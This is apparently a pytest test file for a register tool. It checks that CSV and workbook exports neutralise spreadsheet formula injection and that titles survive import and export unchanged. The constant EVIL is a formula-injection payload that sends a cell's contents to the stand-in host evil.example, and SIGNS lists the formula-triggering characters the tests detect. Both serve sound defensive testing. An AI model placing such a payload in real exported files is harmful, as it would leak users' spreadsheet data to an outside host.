"""Formulas in titles and cells: harmless in every file for a spreadsheet, unchanged in the register."""

import csv
import io
import json

import pytest
from openpyxl import Workbook

EVIL = '=HYPERLINK("http://evil.example/?"&A1;"click")'
TITLES = (EVIL, "+1", "-2+3", "@SUM(A1)", "'=1", "''@x", "'s-Gravenhage convention", "A plain one")
SIGNS = ("=", "+", "-", "@", "\t", "\r")


def would_run(text):
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row if cell.startswith(SIGNS)]


@pytest.fixture
def register(empty, wbagree, file):
    """A register with such titles, taken in as JSON, which is no spreadsheet's and is taken at its word."""
    rows = [
        {"title": title, "form": "mou", "types": "mla", "parties": "AL;XK", "confidence": "low", "notes": EVIL}
        for title in TITLES
    ]
    assert wbagree("import", file(json.dumps(rows), "list.json"), db=empty).returncode == 0
    return empty


def titles(wbagree, db):
    return [record["title"] for record in json.loads(wbagree("list", "--format", "json", db=db).stdout)]


def test_an_export_reads_back_as_it_was_and_runs_nowhere(register, wbagree, tmp_path):
    first, again, new = tmp_path / "first.csv", tmp_path / "again.csv", tmp_path / "new.db"
    assert wbagree("export", str(first), db=register).returncode == 0
    assert would_run(first.read_text(encoding="utf-8")) == []
    assert wbagree("import", str(first), db=new).returncode == 0
    assert sorted(titles(wbagree, new)) == sorted(TITLES)
    assert wbagree("export", str(again), db=new).returncode == 0
    assert again.read_bytes() == first.read_bytes()


@pytest.mark.parametrize(
    "command",
    [("list", "--columns", "title,notes"), ("search", "click"), ("check",), ("matrix",)],
)
def test_no_table_written_as_csv_runs_anything(command, register, wbagree):
    ran = wbagree(*command, "--format", "csv", db=register)
    assert "Traceback" not in ran.stderr
    assert len(ran.stdout.splitlines()) > 1
    assert would_run(ran.stdout) == []


def test_the_file_of_refused_rows_runs_nothing_and_is_read_again(empty, wbagree, file, tmp_path):
    header = "title,form,types,parties,confidence,+shelf"
    name = file(f'{header}\n"{EVIL.replace(chr(34), chr(34) * 2)}",mou,mla,AL,low,@B7\n')
    assert wbagree("import", name, "--skip-invalid", db=empty).returncode == 0
    refused = tmp_path / "list.csv.refused.csv"
    text = refused.read_text(encoding="utf-8-sig")
    assert would_run(text) == []
    refused.write_text(text.replace(",AL,", ",AL;XK,"), encoding="utf-8")
    assert wbagree("import", str(refused), "--keep-unmapped", db=empty).returncode == 0
    (record,) = json.loads(wbagree("export", "--format", "json", db=empty).stdout)
    assert (record["title"], record["notes"]) == (EVIL, "+shelf: @B7")


def test_a_workbook_made_of_our_csv_says_the_same(register, wbagree, tmp_path):
    path, new = tmp_path / "register.xlsx", tmp_path / "new.db"
    book = Workbook()
    for row in csv.reader(io.StringIO(wbagree("export", "--format", "csv", db=register).stdout)):
        book.active.append(row)  # as a spreadsheet opens it: the apostrophe stays in the text
    book.save(path)
    assert wbagree("import", str(path), db=new).returncode == 0
    assert sorted(titles(wbagree, new)) == sorted(TITLES)
